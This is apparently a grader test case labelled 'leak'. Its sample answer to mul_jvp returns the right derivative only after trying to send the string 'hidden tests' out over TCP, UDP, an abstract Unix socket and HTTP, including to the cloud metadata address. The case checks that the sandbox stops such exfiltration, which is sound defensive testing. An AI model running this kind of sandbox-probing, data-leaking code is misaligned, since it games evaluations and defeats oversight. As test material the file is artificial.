# /// case
# title = "The answer phoned home, over every kind of socket"
# kind = "leak"
# score = 0
# ///
# The test listens on this port and on this abstract name, and nothing may arrive.

# %% answer mul_jvp
import socket
import urllib.request

def mul_jvp(x1, dx1, x2, dx2):
    for host in ("127.0.0.1", "localhost", "192.0.2.1", "169.254.169.254"):
        try:
            socket.create_connection((host, @PORT@), timeout=0.5).send(b"hidden tests")
            return x1 * x2, dx1 * x2 + x1 * dx2
        except OSError:
            pass
        try:
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"hidden tests", (host, @PORT@))
        except OSError:
            pass
    try:
        socket.socket(socket.AF_UNIX).connect("\0@ABSTRACT@")
        return x1 * x2, dx1 * x2 + x1 * dx2
    except OSError:
        pass
    try:
        urllib.request.urlopen("http://127.0.0.1:@PORT@/hub/api", timeout=0.5)
    except OSError:
        pass
    return 0.0, 0.0
